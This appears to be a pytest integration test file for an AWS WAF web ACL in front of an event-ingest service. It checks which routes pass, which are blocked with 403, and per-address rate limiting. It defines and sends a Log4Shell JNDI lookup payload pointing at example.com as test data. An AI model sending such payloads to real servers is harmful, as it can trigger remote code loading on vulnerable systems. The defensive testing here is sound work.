"""The deployed web ACL, evaluated by the local edge location before each request.

The collector's routes pass whatever their events contain. Others get the answers of AWS WAF.
"""

import uuid
from collections.abc import Iterator

import httpx
import pytest

from edge_ingest import routes
from tests.system.test_collector_requests import PATHS, body_of
from tools.dev import system

pytestmark = pytest.mark.integration

#: What the managed rules block elsewhere: a body over 8 KB, and an attack in it and in a header.
ATTACK = "${jndi:ldap://example.com/}"
LARGE = {"text": ATTACK + "x" * 9_000}


@pytest.fixture(scope="module")
def http(meridian: system.System) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=meridian.url, timeout=30) as browser:
        yield browser


def forms(http: httpx.Client, address: str, count: int) -> set[int]:
    """Send forms to a path that the API doesn't have; return the statuses."""
    headers = {"X-Local-Viewer-Address": address}
    return {http.post("/api/accounts/none", headers=headers).status_code for _ in range(count)}


@pytest.mark.parametrize("path", PATHS)
def test_route_passes_the_web_acl_with_any_content(path: str, http: httpx.Client) -> None:
    route = routes.match(path)
    sends = "POST" in route.methods
    body = body_of(path)
    batch = body.get("batch")
    (batch[0] if isinstance(batch, list) else body)["properties"] = LARGE
    query = {"event": "Routed", "userId": "u-1", "groupId": "g-1", "previousId": "p-1"}
    answer = http.request(
        route.methods[0],
        path,
        auth=("portal-write-key", ""),
        headers={"X-Note": ATTACK, "User-Agent": ""},
        json=body if sends else None,
        params=None if sends else query | {"properties.text": "x" * 3_000},
    )
    assert answer.status_code == 200, answer.text
    if sends:
        assert (answer.json()["accepted"], answer.json()["rejected"]) == (1, [])


@pytest.mark.parametrize(
    ("method", "path", "fields"),
    [
        ("GET", "/", {"headers": {"User-Agent": ""}}),
        ("GET", "/", {"headers": {"X-Note": ATTACK}}),
        ("GET", "/snapshots/sources", {"headers": {"User-Agent": ""}}),
        ("GET", "/" + "p" * 1_100, {}),
        ("POST", "/api/appointments", {"content": b"x" * 9_000}),
        ("PUT", "/app/v1/batch", {"content": b"x" * 9_000}),
    ],
    ids=["user-agent", "attack", "snapshot", "long-path", "api", "app"],
)
def test_other_request_that_violates_a_rule_gets_the_answer_of_aws_waf(
    method: str, path: str, fields: dict[str, object], http: httpx.Client
) -> None:
    answer = http.request(method, path, **fields)  # type: ignore[arg-type]  # differ in their types
    assert answer.status_code == 403
    assert answer.headers["content-type"] == "text/html"
    assert "Request blocked" in answer.text


def test_address_with_too_many_forms_gets_429_and_others_do_not(http: httpx.Client) -> None:
    address = f"2001:db8::{uuid.uuid4().hex[:4]}"
    assert 429 not in forms(http, address, 400)
    assert forms(http, address, 3) == {429}
    assert 429 not in forms(http, "192.0.2.77", 1)
    headers = {"X-Local-Viewer-Address": address}
    assert http.get("/", headers=headers).status_code == 200
